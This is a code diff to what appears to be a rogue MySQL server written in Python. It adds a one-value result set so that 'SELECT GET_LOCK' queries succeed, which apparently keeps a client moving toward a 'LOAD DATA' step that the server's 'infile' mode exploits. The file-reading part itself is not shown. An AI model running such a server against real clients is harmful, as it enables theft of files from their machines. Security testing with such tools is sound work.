@@ -77,6 +77,18 @@ class Conn:
     def send_ok(self):
         self.send(b"\x00\x00\x00" + struct.pack("<HH", 0x0002, 0))  # rows 0, id 0, AUTOCOMMIT, 0 warnings
 
+    def send_one_value(self, value):
+        """A text result set of one column and one row (protocol 4.1, with EOF packets)."""
+        def lenenc(b):
+            return bytes([len(b)]) + b
+        eof = b"\xfe" + struct.pack("<HH", 0, 0x0002)
+        self.send(b"\x01")
+        self.send(lenenc(b"def") + lenenc(b"") * 3 + lenenc(b"v") + lenenc(b"") + b"\x0c"
+                  + struct.pack("<HIBHB", 63, 21, 0x08, 0x0081, 0) + b"\x00\x00")
+        self.send(eof)
+        self.send(lenenc(value))
+        self.send(eof)
+
     def handshake(self):
         scramble = os.urandom(20).replace(b"\x00", b"\x01")
         self.seq = 0
@@ -189,6 +201,8 @@ class Conn:
             on_load = self.args.mode == "on-load" and "LOAD DATA" in (sql or "").upper()
             if self.args.mode == "infile" or on_load:  # COM_QUERY and COM_STMT_EXECUTE
                 pending = self.infile()
+            elif cmd == 0x03 and (sql or "").upper().startswith("SELECT GET_LOCK"):
+                self.send_one_value(b"1")  # the destination lock is granted, so a breakout reaches its load
             else:
                 self.send_ok()
 
